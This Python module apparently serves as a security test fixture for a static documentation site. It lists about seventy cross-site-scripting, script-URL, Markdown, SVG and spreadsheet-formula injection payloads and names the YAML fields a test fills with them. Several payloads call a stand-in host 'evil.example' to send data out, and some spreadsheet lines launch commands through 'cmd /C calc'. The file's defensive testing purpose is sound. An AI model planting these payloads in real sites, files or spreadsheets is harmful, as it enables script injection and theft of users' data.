"""A hostile corpus: text a stranger's pull request could put in any field.

Each payload, if it ever ran, would set ``window.__pwned`` (or open a dialog).
They come from the classes of issue 10 and the payloads the suite had before:
closing <title>, tooltips, raw HTML, handlers, attribute lists, script URLs
(plain, entity-encoded, split by whitespace), reference definitions nested in
quotes, lists and admonitions, abbreviations, SVG animation, CSS, forms and
frames, Markdown that builds HTML, and spreadsheet formulas.
"""

from __future__ import annotations

P = "window.__pwned=1"

PAYLOADS: list[str] = [
    # <title> and <meta>: the theme's striptags un-escapes entities
    f"</title><script>{P}</script>",
    f"&lt;/title&gt;&lt;script&gt;{P}&lt;/script&gt;",
    f"&lt;/title&gt;&lt;img src=x onerror={P}&gt;",
    f'" onfocus="{P}" autofocus="',
    f"' onmouseover='{P}' x='",
    f'"><svg onload={P}>',
    # raw HTML and handlers
    f"<script>{P}</script>",
    f'<img src="x" onerror="{P}">',
    f"<svg/onload={P}>",
    f"<body onload={P}>",
    f'<details open ontoggle="{P}">x</details>',
    '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>',
    f'<object data="javascript:{P}"></object>',
    f'<embed src="javascript:{P}">',
    '<base href="javascript:/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{P}">',
    f'<form action="javascript:{P}"><button>go</button></form>',
    f'<math><maction actiontype="statusline" href="javascript:{P}">x</maction></math>',
    f"<style>@import 'javascript:{P}';</style>",
    f'<p style="background:url(javascript:{P})">x</p>',
    f'<a href="javascript:{P}">x</a>',
    f"&#60;script&#62;{P}&#60;/script&#62;",
    f"<!--><script>{P}</script>-->",
    f"<noscript><p title=\"</noscript><img src=x onerror={P}>\">",
    # SVG animation writing an href
    f'<svg><a><animate attributeName="href" values="javascript:{P}"/><text y="20">x</text></a></svg>',
    f'<svg><a><set attributeName="href" to="javascript:{P}"/><text y="20">x</text></a></svg>',
    f'<svg><a xlink:href="javascript:{P}"><text y="20">x</text></a></svg>',
    # Markdown links with script URLs
    f"[x](javascript:{P})",
    f"[x]( javascript:{P})",
    f"[x](<javascript:{P}>)",
    f"[x](JaVaScRiPt:{P})",
    f"[x](java&#9;script:{P})",
    f"[x](java&#10;script:{P})",
    f"[x](java&#x09;script:{P})",
    f"[x](java&#115;cript:{P})",
    f"[x](javascript&colon;{P})",
    f"[x](&#106;avascript:{P})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/steal)",
    f"![x](javascript:{P})",
    f'[x](https://example.org/" onclick="{P})',
    f"[x](https://example.org 'x\" onclick=\"{P}')",
    # link titles and abbreviations: Material's tooltips rendered them as HTML
    f'[x](https://example.org "&lt;img src=x onerror={P}&gt;")',
    f'[x](https://example.org "<img src=x onerror={P}>")',
    f"*[HTML]: &lt;img src=x onerror={P}&gt;\n\nHTML text",
    f'*[the]: " onmouseover="{P}\n\nthe text',
    # reference definitions, top level and nested
    f"[x][r]\n\n[r]: javascript:{P}",
    f"[x][r]\n\n[r]: <javascript:{P}>",
    f"[x][r]\n\n> [r]: javascript:{P}",
    f"[x][r]\n\n- [r]: javascript:{P}",
    f'[x][r]\n\n!!! note\n    [r]: javascript:{P}',
    f"[x][r]\n\n[r]:\n  java&#9;script:{P}",
    # attribute lists
    f'Text\n{{ x onclick="{P}" }}',
    f"**bold**{{ x onmouseover={P} }}",
    f"# Head {{ x onclick={P} }}",
    f'[x](https://example.org){{: onclick="{P}" }}',
    f"![x](https://example.org/a.png){{ onerror={P} }}",
    f"Text\n{{\tonclick={P} }}",
    # admonitions, definition lists, code
    f'!!! note "x\\" onclick=\\"{P}"\n    Text',
    f'Term\n:   <b onclick="{P}">x</b>',
    f"```\n<script>{P}</script>\n```",
    f"`<script>{P}</script>`",
    f"<https://example.org/\"onmouseover=\"{P}>",
    f"https://example.org/<img src=x onerror={P}>",
    # spreadsheet formulas (CSV injection)
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]

assert len(PAYLOADS) >= 60 and len(set(PAYLOADS)) == len(PAYLOADS)

# Where a payload goes: (file, field path), with the field path as a tuple.
# RECORD and SOURCE stand for one fictional record and one fictional source
# file per payload (the record cites the source, so that its page is built);
# paths into taxonomy lists name an entry the test adds to that list, one per
# payload. Lists inside an entry (paragraphs, participants, a kind's support
# levels) get one item. Every text field is here; ids, dates, numbers,
# language tags and other fields a pattern or a list of ids constrains are not.
# Country names are no longer text: records give ISO codes, named by pycountry.
RECORD = "practices/<record>.yml"
SOURCE = "sources/<source>.yml"
TAXONOMY = "taxonomy.yml"
PLACEMENTS: list[tuple[str, tuple[str, ...]]] = [
    (RECORD, ("title",)),
    (RECORD, ("summary",)),
    (RECORD, ("description",)),
    (RECORD, ("why_it_matters",)),
    (RECORD, ("considerations",)),
    (RECORD, ("related_standards", "reason")),  # our one-line reason for a related standard
    (TAXONOMY, ("themes", "name")),
    (TAXONOMY, ("themes", "definition")),
    (TAXONOMY, ("stages", "name")),
    (TAXONOMY, ("stages", "definition")),
    (TAXONOMY, ("regions", "name")),
    (TAXONOMY, ("regions", "definition")),
    (TAXONOMY, ("source_kinds", "name")),
    (TAXONOMY, ("source_kinds", "definition")),
    (TAXONOMY, ("source_kinds", "support", "name")),
    (TAXONOMY, ("source_kinds", "support", "definition")),
    (TAXONOMY, ("standards", "name")),
    (TAXONOMY, ("standards", "definition")),
    (TAXONOMY, ("standards", "official_name")),
    (TAXONOMY, ("standards", "instrument")),
    (SOURCE, ("title",)),
    (SOURCE, ("symbol",)),
    (SOURCE, ("publisher",)),
    (SOURCE, ("url",)),
    (SOURCE, ("licence",)),
    (SOURCE, ("context",)),
    (SOURCE, ("meeting", "dates")),
    (SOURCE, ("meeting", "format")),
    (SOURCE, ("meeting", "mandate")),
    (SOURCE, ("paragraphs", "section")),
    (SOURCE, ("paragraphs", "summary")),
    (SOURCE, ("participants", "name")),
    (SOURCE, ("participants", "position")),
    (SOURCE, ("participants", "institution")),
    (SOURCE, ("participants", "country")),
]
